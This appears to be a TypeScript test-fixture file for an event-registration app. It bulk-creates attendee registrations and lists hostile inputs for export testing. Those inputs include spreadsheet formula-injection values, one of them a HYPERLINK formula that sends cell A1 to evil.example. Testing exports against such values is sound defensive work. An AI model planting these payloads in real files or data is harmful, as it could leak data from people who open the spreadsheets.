// Exports / check-in factories: an event and many registrations written with
// createMany (fast enough for 20,000 rows), each call unique.
import { randomBytes, randomUUID } from 'node:crypto';
import { db } from '@/lib/db';
import type { Prisma } from '@/generated/prisma/client';
import { foldForSearch } from '@/lib/search';

const short = () => randomUUID().replace(/-/g, '').slice(0, 10).toUpperCase();


export type AttendeeInput = Partial<Omit<Prisma.RegistrationCreateManyInput, 'eventId' | 'userId'>>;


/** Registrations (and their users) for `eventId`, in batches of 1,000; returns their ids in input order. */
export async function createAttendees(eventId: string, rows: AttendeeInput[]): Promise<string[]> {
  const tag = short();
  const ids: string[] = [];
  for (let start = 0; start < rows.length; start += 1000) {
    const batch = rows.slice(start, start + 1000);
    const users = batch.map((_, i) => ({ id: `u${tag}${start + i}`, email: `att-${tag}-${start + i}@test.rencontre.example`, name: 'Test', passwordHash: 'x' }));
    await db.user.createMany({ data: users });
    const regs: Prisma.RegistrationCreateManyInput[] = batch.map((row, i) => {
      const n = start + i;
      const firstName = row.firstName ?? 'Awa';
      const lastName = row.lastName ?? `Diallo ${n}`;
      const referenceNumber = row.referenceNumber ?? `${tag}-${String(n).padStart(5, '0')}`;
      return {
        id: `r${tag}${String(n).padStart(6, '0')}`,
        eventId,
        userId: users[i].id,
        referenceSeq: n + 1,
        referenceNumber,
        status: 'APPROVED',
        firstName,
        lastName,
        email: users[i].email,
        organization: 'Coopérative des femmes de Thiès',
        organizationKind: 'COOPERATIVE',
        country: 'SN',
        continent: 'AFRICA',
        searchText: foldForSearch(`${firstName} ${lastName} ${users[i].email} ${referenceNumber}`),
        languages: ['fr', 'wo'],
        interpretationNeeds: [],
        dietary: [],
        accessibility: [],
        consentVersion: '1',
        consentedAt: new Date(),
        calendarToken: randomBytes(24).toString('base64url'),
        ...row,
      };
    });
    await db.registration.createMany({ data: regs });
    ids.push(...regs.map((r) => r.id!));
  }
  return ids;
}

/** Values a spreadsheet could run as formulas, and names in many scripts. */
export const HOSTILE_ATTENDEES: AttendeeInput[] = [
  { firstName: '=HYPERLINK("http://evil.example/?x="&A1,"clic")', lastName: 'Formule', organization: '+SUM(1,2)', city: '-2+3', organizationRole: '@cmd' },
  { firstName: '\tTab', lastName: '\r=Retour', organization: 'Quote "inside", comma', dietaryNotes: 'Deux\nlignes, et "guillemets"', accessibilityNotes: 'CRLF\r\nici' },
  { firstName: '王芳', lastName: '李', organization: '北京合作社联合会', country: 'CN', continent: 'ASIA' },
  { firstName: 'محمد', lastName: 'العربي', organization: 'جمعية التضامن', country: 'MA', continent: 'AFRICA' },
  { firstName: '민준', lastName: '김', organization: '서울 협동조합', country: 'KR', continent: 'ASIA' },
  { firstName: 'Ngũgĩ', lastName: 'wa Thiong’o', organization: 'Société coopérative « Ñandutí » — São Tomé', country: 'KE', continent: 'AFRICA' },
  { firstName: 'Дмитрий', lastName: 'Ёлкин', organization: 'Кооператив', country: 'RU', continent: 'EUROPE' },
  { firstName: ' espaces ', lastName: "O'Brien", organization: "'apostrophe", city: '=1+1' },
];
